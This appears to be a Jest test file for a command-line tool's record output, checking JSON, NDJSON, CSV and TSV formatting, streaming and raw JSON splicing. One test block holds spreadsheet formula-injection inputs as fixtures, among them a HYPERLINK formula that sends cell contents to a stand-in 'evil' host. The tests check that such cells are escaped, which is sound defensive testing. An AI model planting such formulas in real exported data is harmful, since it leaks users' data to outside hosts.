import { PassThrough } from 'node:stream';
import { createRecordEmitter, emitRecords, formatObject, RawJson, type RecordFormat } from '../../../src/output/records';

function sink() {
  const out = new PassThrough();
  let text = '';
  out.on('data', (c) => (text += c));
  return { out, text: () => text };
}

async function* from<T>(items: T[]) {
  for (const i of items) yield i;
}

const rows = [
  { Name: 'a', Size: 1, Tags: { k: 'v' } },
  { Name: 'b,"c"', Size: 2, Tags: null },
];

async function render(format: RecordFormat, items: Record<string, unknown>[], columns?: string[]) {
  const s = sink();
  await emitRecords(from(items), format, s.out, columns);
  return s.text();
}

describe('record output', () => {
  it('prints a pretty JSON array that parses as a whole', async () => {
    const text = await render('json', rows);
    expect(JSON.parse(text)).toEqual(rows);
    expect(text).toContain('\n  {\n    "Name": "a"');
    expect(await render('json', [])).toBe('[]\n');
  });

  it('prints NDJSON, one object per line', async () => {
    const lines = (await render('nl', rows)).trimEnd().split('\n');
    expect(lines).toHaveLength(2);
    expect(lines.map((l) => JSON.parse(l))).toEqual(rows);
    expect(await render('nl', [])).toBe('');
  });

  it('prints CSV with quoting and JSON-encoded nested values', async () => {
    expect(await render('csv', rows)).toBe('Name,Size,Tags\na,1,"{""k"":""v""}"\n"b,""c""",2,\n');
    expect(await render('csv', [], ['Name', 'Size'])).toBe('Name,Size\n');
  });

  it('prints TSV with tabs and newlines escaped', async () => {
    expect(await render('tsv', [{ a: 'x\ty', b: 'l1\nl2' }])).toBe('a\tb\nx\\ty\tl1\\nl2\n');
  });

  describe('cells a spreadsheet would run as formulas', () => {
    const keys = ['=HYPERLINK("http://evil/?"&A1)', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=cmd', '\r=cmd', '\uFF1D1+1', 'safe.txt', 'a=b'];
    it.each(['csv', 'tsv'] as const)('%s: every formula start gets a leading quote; other text is untouched', async (format) => {
      const lines = (
        await render(
          format,
          keys.map((Key) => ({ Key })),
        )
      )
        .split('\n')
        .slice(1, -1);
      const unescaped = (line: string) =>
        format === 'csv' ? line.replace(/^"([\s\S]*)"$/, '$1').replace(/""/g, '"') : line.replace(/\\t/g, '\t').replace(/\\r/g, '\r');
      expect(lines.map(unescaped)).toEqual([
        `'=HYPERLINK("http://evil/?"&A1)`,
        `'+1+1`,
        `'-2+3`,
        `'@SUM(A1:A9)`,
        `'\t=cmd`,
        `'\r=cmd`,
        `'\uFF1D1+1`,
        'safe.txt',
        'a=b',
      ]);
    });
    it('numbers, dates and nested values are not text cells and stay as they are', async () => {
      expect(await render('csv', [{ n: -5, d: new Date('2024-01-01T00:00:00Z'), o: ['-x'] }])).toBe(
        'n,d,o\n-5,2024-01-01T00:00:00.000Z,"[""-x""]"\n',
      );
    });
    it('JSON output keeps the exact text', async () => {
      expect(JSON.parse(await render('nl', [{ Key: '=1+1' }]))).toEqual({ Key: '=1+1' });
    });
  });

  it('uses the given columns for CSV even when a record lacks some', async () => {
    expect(await render('csv', [{ B: 1 }], ['A', 'B'])).toBe('A,B\n,1\n');
  });

  it('streams: each NDJSON line is written before the source yields the next', async () => {
    const s = sink();
    const seen: string[] = [];
    async function* slow() {
      yield { n: 1 };
      seen.push(s.text());
      yield { n: 2 };
    }
    await emitRecords(slow(), 'nl', s.out);
    expect(seen[0]).toBe('{"n":1}\n');
  });

  it('leaves a JSON array unterminated when the source fails, so half a list never parses', async () => {
    const s = sink();
    async function* failing() {
      yield { n: 1 };
      throw new Error('page 2 failed');
    }
    await expect(emitRecords(failing(), 'json', s.out)).rejects.toThrow('page 2 failed');
    expect(() => JSON.parse(s.text())).toThrow();
  });

  it('waits for drain under back-pressure', async () => {
    const out = new PassThrough({ highWaterMark: 1 });
    const emitter = createRecordEmitter('nl', out);
    let resolved = false;
    const p = emitter.write({ big: 'x'.repeat(100) }).then(() => (resolved = true));
    await new Promise((r) => setImmediate(r));
    expect(resolved).toBe(false);
    out.read();
    await p;
    expect(resolved).toBe(true);
  });

  it('formats single objects pretty or on one line', () => {
    expect(formatObject({ a: 1 })).toBe('{\n  "a": 1\n}\n');
    expect(formatObject({ a: 1 }, true)).toBe('{"a":1}\n');
  });
});

describe('formatObject with JSON that must print as written', () => {
  const raw = new RawJson(
    '{"Big":12345678901234567891,"Dec":1.0,"E":"\\u00e9"}',
    '{\n  "Big": 12345678901234567891,\n  "Dec": 1.0,\n  "E": "\\u00e9"\n}',
  );
  it('splices the text in, on one line with --nl', () => {
    expect(formatObject({ Bucket: 'b', Policy: raw, After: [1] }, true)).toBe(
      '{"Bucket":"b","Policy":{"Big":12345678901234567891,"Dec":1.0,"E":"\\u00e9"},"After":[1]}\n',
    );
  });
  it('splices the pretty text in, indented to its place', () => {
    expect(formatObject({ Bucket: 'b', Policy: raw }, false)).toBe(
      '{\n  "Bucket": "b",\n  "Policy": {\n    "Big": 12345678901234567891,\n    "Dec": 1.0,\n    "E": "\\u00e9"\n  }\n}\n',
    );
  });
  it('leaves everything else as JSON.stringify writes it', () => {
    expect(formatObject({ a: 1.5, b: 'x' }, false)).toBe(JSON.stringify({ a: 1.5, b: 'x' }, null, 2) + '\n');
  });
});
